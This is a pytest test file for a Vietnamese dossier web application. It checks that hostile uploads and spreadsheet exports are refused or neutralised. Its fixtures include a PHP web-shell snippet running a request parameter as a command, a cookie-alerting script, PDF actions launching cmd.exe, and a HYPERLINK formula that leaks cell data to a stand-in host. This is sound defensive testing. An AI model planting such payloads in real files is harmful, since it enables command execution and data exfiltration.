"""Issue 16: hostile uploads refused or neutralised (and what is stored checked), and exports
whose cells never become formulas."""

import csv
import io
import zipfile

import pikepdf
import pytest
from django import forms
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook
from PIL import Image

from core.exports import csv_bytes, xlsx_append
from dossiers.models import DraftFile
from dossiers.uploads import inspect
from tests.dossiers.helpers import PDF_BYTES, start, step_url

PAYLOAD = b"<html><script>alert(document.cookie)</script><?php system($_GET['c']); ?></html>"
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"x")'


def upload(name, content):
    return SimpleUploadedFile(name, content)


def image_bytes(fmt, **save) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, format=fmt, **save)
    return buffer.getvalue()


def stored(checked) -> bytes:
    checked.upload.seek(0)
    return checked.upload.read()


@pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
def test_an_image_with_a_page_appended_is_stored_without_it(fmt):
    checked = inspect(upload(f"anh.{fmt.lower()}", image_bytes(fmt) + PAYLOAD), max_mb=10)
    content = stored(checked)
    assert b"<script" not in content and b"<?php" not in content
    assert checked.size == len(content)
    with Image.open(io.BytesIO(content)) as image:
        assert image.format == fmt and image.size == (8, 8)


def test_a_photos_metadata_is_dropped():
    exif = Image.Exif()
    exif[0x010F] = "Máy ảnh"  # Make
    exif[0x0132] = "2026:12:07 08:00:00"  # DateTime
    original = image_bytes("JPEG", exif=exif.tobytes())
    assert b"Exif" in original
    content = stored(inspect(upload("anh.jpg", original), max_mb=10))
    assert b"Exif" not in content
    with Image.open(io.BytesIO(content)) as image:
        assert not image.getexif()


def test_a_broken_image_is_refused_in_vietnamese():
    with pytest.raises(forms.ValidationError) as refused:
        inspect(upload("anh.png", b"\x89PNG\r\n\x1a\n" + PAYLOAD), max_mb=10)
    assert refused.value.code == "image_unreadable"
    assert "Không đọc được ảnh “anh.png”" in refused.value.messages[0]


def pdf_with(build) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    build(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def open_action(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')")
    )


def named_javascript(pdf):
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()"))
    )
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
    )


def page_event(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    )


def link_launch(pdf):
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 10, 10]),
            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([annotation])


def embedded_file(pdf):
    pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="v.exe")


@pytest.mark.parametrize(
    "build", [open_action, named_javascript, page_event, link_launch, embedded_file]
)
def test_a_pdf_with_active_content_is_refused_in_vietnamese(build):
    with pytest.raises(forms.ValidationError) as refused:
        inspect(upload("don.pdf", pdf_with(build)), max_mb=10)
    assert refused.value.code == "pdf_active"
    assert "Tệp “don.pdf” chứa nội dung tự chạy" in refused.value.messages[0]


def test_a_plain_pdf_passes_unchanged_and_a_broken_one_is_refused():
    assert stored(inspect(upload("don.pdf", PDF_BYTES), max_mb=10)) == PDF_BYTES
    with pytest.raises(forms.ValidationError) as refused:
        inspect(upload("hong.pdf", b"%PDF-1.4 tiny"), max_mb=10)
    assert refused.value.code == "pdf_unreadable"


@pytest.mark.django_db
def test_the_wizard_stores_the_clean_image_and_refuses_the_active_pdf(client, catalogue):
    location = start(client, "1.001193")
    client.post(location, {"co_quan": "000.01.00.H26", "tiep_tuc": "1"})
    document = catalogue["khai_sinh"].documents.order_by("order")[1]
    url = step_url(location, "giay-to")
    body = client.post(
        url, {f"tep_{document.pk}": [upload("don.pdf", pdf_with(open_action))]}
    ).content.decode()
    assert "chứa nội dung tự chạy" in body
    assert not DraftFile.objects.exists()
    client.post(url, {f"tep_{document.pk}": [upload("anh.png", image_bytes("PNG") + PAYLOAD)]})
    draft_file = DraftFile.objects.get()
    with default_storage.open(draft_file.file.name) as handle:
        content = handle.read()
    assert PAYLOAD not in content and content.startswith(b"\x89PNG")
    assert draft_file.size == len(content)


def test_csv_cells_starting_like_a_formula_are_inert():
    text = csv_bytes([[FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "Nguyễn", 5, None]])
    assert text.startswith("\ufeff".encode())
    row = next(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert row == ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "Nguyễn", "5", ""]


def test_xlsx_text_cells_are_typed_strings_never_formulas():
    workbook = Workbook()
    xlsx_append(workbook.active, [FORMULA, "Nguyễn", 5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet_xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


@pytest.mark.django_db
def test_both_register_exports_keep_a_hostile_name_inert(client, catalogue, desk):
    from dossiers import services
    from dossiers.models import Dossier
    from tests.dossiers.factories import submitted

    dossier = submitted(catalogue["khai_sinh"], catalogue["long_bien"])
    Dossier.objects.filter(pk=dossier.pk).update(applicant_name=FORMULA)
    services.dossier_accept(dossier_id=dossier.pk, actor=desk["receiving"])
    client.force_login(desk["receiving"])
    query = {"start": "2020-01-01", "end": "2035-01-01"}
    content = client.get("/quan-tri/dossiers/dossier/so-theo-doi/", {**query, "format": "xlsx"})
    data = content.content
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    cell = load_workbook(io.BytesIO(data)).active["E4"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    text = client.get("/quan-tri/dossiers/dossier/so-theo-doi/", {**query, "format": "csv"})
    assert "'" + FORMULA in next(
        row
        for row in csv.reader(io.StringIO(text.content.decode("utf-8-sig")))
        if FORMULA in "".join(row)
    )


@pytest.mark.django_db
def test_the_statistics_csv_keeps_a_hostile_procedure_name_inert(client, catalogue):
    from stats.exports import statistics_csv

    data = {
        "computed_at": None,
    }
    response = statistics_csv(scope=FORMULA, period_label="-1", data=data, stocks="")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Phạm vi", "'" + FORMULA] and rows[1] == ["Kỳ", "'-1"]
